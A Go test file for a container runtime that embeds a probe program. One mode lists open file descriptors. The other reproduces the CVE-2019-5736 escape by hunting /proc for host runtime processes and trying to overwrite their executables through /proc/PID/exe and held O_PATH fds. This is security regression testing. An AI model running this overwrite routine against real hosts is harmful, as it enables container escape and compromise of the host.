package runtimee2e

import (
	"os"
	"path/filepath"
	"sync"
	"testing"
)

// probeSource is a static program run inside containers by the security tests.
//
//	berthprobe fds              print "fd N -> TARGET" for every open fd above 2
//	berthprobe hunt SECONDS     CVE-2019-5736: for SECONDS, watch /proc for processes
//	                            whose executable is not a file of the container, keep an
//	                            O_PATH fd to each, and try again and again to open it (and
//	                            /proc/PID/exe) for writing and to write into it; print
//	                            "SEEN pid exe" for each and "WROTE path" on success.
const probeSource = `package main

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"
)

func main() {
	switch os.Args[1] {
	case "fds":
		for fd := 3; fd < 4096; fd++ {
			if _, _, e := syscall.Syscall(syscall.SYS_FCNTL, uintptr(fd), syscall.F_GETFD, 0); e != 0 {
				continue
			}
			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			fmt.Printf("fd %d -> %s\n", fd, target)
		}
		fmt.Println("fds done")
	case "hunt":
		secs, _ := strconv.Atoi(os.Args[2])
		hunt(time.Duration(secs) * time.Second)
	}
}

// foreign reports whether the exe of pid is a file that is not part of the container's
// own filesystem (the host's runtime binary, or a copy of it).
func foreign(pid int) (string, bool) {
	link := "/proc/" + strconv.Itoa(pid) + "/exe"
	target, err := os.Readlink(link)
	if err != nil {
		return "", false
	}
	var a, b syscall.Stat_t
	if syscall.Stat(link, &a) != nil {
		return "", false
	}
	if syscall.Stat(target, &b) == nil && a.Dev == b.Dev && a.Ino == b.Ino {
		return target, false
	}
	return target, true
}

func hunt(d time.Duration) {
	self := os.Getpid()
	held := map[int]int{} // pid -> O_PATH fd
	seen := map[int]bool{}
	deadline := time.Now().Add(d)
	payload := []byte("#!/bin/sh\necho overwritten by the container\n")
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || seen[pid] {
				continue
			}
			target, ok := foreign(pid)
			if !ok {
				continue
			}
			seen[pid] = true
			fmt.Printf("SEEN %d %s\n", pid, target)
			if fd, err := syscall.Open("/proc/"+e.Name()+"/exe", 0x200000|syscall.O_CLOEXEC, 0); err == nil {
				held[pid] = fd
			}
			if fd, err := syscall.Open("/proc/"+e.Name()+"/exe", syscall.O_WRONLY, 0); err == nil {
				if n, err := syscall.Write(fd, payload); err == nil && n > 0 {
					fmt.Printf("WROTE /proc/%d/exe (%s)\n", pid, target)
				}
				syscall.Close(fd)
			}
		}
		// After the runtime's process exits, its binary is no longer busy (ETXTBSY):
		// that is when the original attack reopened the held fd for writing.
		for pid, fd := range held {
			p := "/proc/self/fd/" + strconv.Itoa(fd)
			if wfd, err := syscall.Open(p, syscall.O_WRONLY, 0); err == nil {
				if n, err := syscall.Write(wfd, payload); err == nil && n > 0 {
					fmt.Printf("WROTE held fd of pid %d\n", pid)
				}
				syscall.Close(wfd)
			}
		}
		time.Sleep(200 * time.Microsecond)
	}
	fmt.Printf("hunt done: saw %d foreign executables\n", len(seen))
}
`

var (
	probeOnce sync.Once
	probePath string
	probeErr  string
	probeDir  string
)

// probeBinary builds berthprobe once per test binary run.
func probeBinary(t *testing.T) string {
	t.Helper()
	probeOnce.Do(func() {
		d, err := os.MkdirTemp("", "berthprobe-")
		if err != nil {
			probeErr = err.Error()
			return
		}
		probeDir = d
		probePath, probeErr = buildStatic(d, "berthprobe", probeSource)
	})
	if probeErr != "" {
		t.Fatalf("build the probe program: %s", probeErr)
	}
	return probePath
}

// installProbe copies the probe into a rootfs as /berthprobe.
func installProbe(t *testing.T, rootfs string) {
	t.Helper()
	b, err := os.ReadFile(probeBinary(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(rootfs, "berthprobe"), b, 0o755); err != nil {
		t.Fatal(err)
	}
}

func TestMain(m *testing.M) {
	code := m.Run()
	if probeDir != "" {
		os.RemoveAll(probeDir)
	}
	os.Exit(code)
}
